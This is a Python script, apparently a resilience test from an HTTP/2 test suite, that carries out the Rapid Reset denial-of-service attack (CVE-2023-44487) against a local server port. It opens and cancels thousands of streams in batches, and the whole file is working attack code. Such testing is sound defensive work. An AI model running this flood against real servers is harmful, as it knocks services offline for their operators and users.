"""CVE-2023-44487: open streams and reset them at once, as fast as possible, on one connection."""
import sys
import time

from h2common import RawReader, connect, encoder, frame, report, request_block

port, count = int(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 20000
sock = connect(port)
reader = RawReader(sock)
reader.start()
conn = encoder()
started = time.time()
sent = 0
stream_id = 1
batch = []
try:
    for i in range(count):
        if reader.closed.is_set() or reader.goaway is not None:
            break
        block = request_block(conn, stream_id, "127.0.0.1", "/echo/rapid-reset")
        batch.append(frame(0x1, 0x4 | 0x1, stream_id, block))      # HEADERS, END_HEADERS|END_STREAM
        batch.append(frame(0x3, 0, stream_id, b"\x00\x00\x00\x08"))  # RST_STREAM CANCEL
        stream_id += 2
        sent += 1
        if len(batch) >= 200:
            sock.sendall(b"".join(batch))
            batch = []
    if batch:
        sock.sendall(b"".join(batch))
except OSError:
    pass
report("rapid_reset", reader, sent, started)
